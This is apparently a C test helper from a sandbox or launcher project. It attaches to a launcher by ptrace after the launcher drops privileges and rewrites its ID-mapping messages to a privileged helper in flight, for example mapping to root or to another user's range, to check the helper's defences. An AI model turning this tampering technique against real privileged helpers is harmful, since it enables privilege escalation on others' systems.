/* tests/helper/hijack.c - drives a launcher by ptrace, as its user may.
 *
 * A launcher that has dropped its privileges is dumpable, so its user can attach to it
 * and change what it says to the helper (bubblewrap's CVE-2026-41163). This does so at
 * the moment when a frame is sent, in one of several ways.
 *
 *	hijack WAY PROGRAM [ARG...]	WAY is a row of `ways`; exits as PROGRAM does
 *
 * Says "changed WAY" on stderr when it got to change something: it may come too late,
 * so whoever calls it tries again. */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include "runtime/priv.h"

#define FIELD(field) offsetof(struct priv_req, u.field)

static const struct {
	const char *name;
	size_t at;
	uint32_t value;
} ways[] = {
	{ "root", FIELD(map_ids.uids.row[0].outside), 0 },
	{ "root-group", FIELD(map_ids.gids.row[0].outside), 0 },
	{ "neighbour", FIELD(map_ids.uids.row[1].outside), 200065536 },
	{ "neighbour-group", FIELD(map_ids.gids.row[1].outside), 200065536 },
	{ "more", FIELD(map_ids.uids.row[1].count), 65537 },
	{ "all", FIELD(map_ids.uids.row[1].count), 4000000000u },
	{ "own-twice", FIELD(map_ids.uids.row[0].count), 2 },
	{ "no-rows", FIELD(map_ids.uids.n), 0 },
	{ "many-rows", FIELD(map_ids.uids.n), 4000000000u },
	{ "type", offsetof(struct priv_req, type), PRIV_NET_JOIN },
	{ "size", offsetof(struct priv_req, size), 8 },
};

static int peek(pid_t pid, unsigned long from, void *to, size_t n)
{
	struct iovec here = { to, n }, there = { (void *)from, n };

	return process_vm_readv(pid, &here, 1, &there, 1, 0) == (ssize_t)n ? 0 : -1;
}

static int poke(pid_t pid, const void *from, unsigned long to, size_t n)
{
	struct iovec here = { (void *)from, n }, there = { (void *)to, n };

	return process_vm_writev(pid, &here, 1, &there, 1, 0) == (ssize_t)n ? 0 : -1;
}

/* PID is about to send a message: if it is MAP_IDS, change it. */
static bool change(pid_t pid, unsigned long msg, size_t way)
{
	struct msghdr h;
	struct iovec iov;
	uint32_t type;

	if (peek(pid, msg, &h, sizeof(h)) < 0 ||
	    peek(pid, (unsigned long)h.msg_iov, &iov, sizeof(iov)) < 0 ||
	    iov.iov_len != offsetof(struct priv_req, u) + sizeof(struct priv_map_ids) ||
	    peek(pid, (unsigned long)iov.iov_base, &type, sizeof(type)) < 0 || type != PRIV_MAP_IDS)
		return false;
	if (poke(pid, &ways[way].value, (unsigned long)iov.iov_base + ways[way].at, 4) < 0)
		perror("hijack: poke");
	fprintf(stderr, "changed %s\n", ways[way].name);
	return true;
}

int main(int argc, char **argv)
{
	size_t way = 0, n = sizeof(ways) / sizeof(*ways);
	bool done = false;
	int status;

	while (argc > 2 && way < n && strcmp(ways[way].name, argv[1]) != 0)
		way++;
	if (argc < 3 || way == n) {
		for (way = 0; way < n; way++)
			puts(ways[way].name);
		return 2;
	}
	int gate[2];
	char byte;
	if (pipe2(gate, O_CLOEXEC) < 0)
		return 3;
	pid_t pid = fork();
	if (pid == 0) {
		execvp(argv[2], argv + 2);
		_exit(127);
	}
	/* Not before the exec: a program that is traced then gains nothing by its file. */
	close(gate[1]);
	if (read(gate[0], &byte, 1) != 0)
		return 3;
	/* Refused while it has privileges, and from the drop on allowed. */
	while (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) < 0)
		if (errno != EPERM || waitpid(pid, &status, WNOHANG) == pid)
			return 3;
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	while (waitpid(pid, &status, 0) == pid && !WIFEXITED(status) && !WIFSIGNALED(status)) {
		struct user_regs_struct r;
		int sig = WSTOPSIG(status);

		if (sig == (SIGTRAP | 0x80) && !done && ptrace(PTRACE_GETREGS, pid, 0, &r) == 0 &&
		    r.orig_rax == SYS_sendmsg && r.rax == (unsigned long)-ENOSYS)
			done = change(pid, r.rsi, way);
		if (sig == (SIGTRAP | 0x80) || status >> 16)
			sig = 0;
		ptrace(PTRACE_SYSCALL, pid, 0, (long)sig);
	}
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}
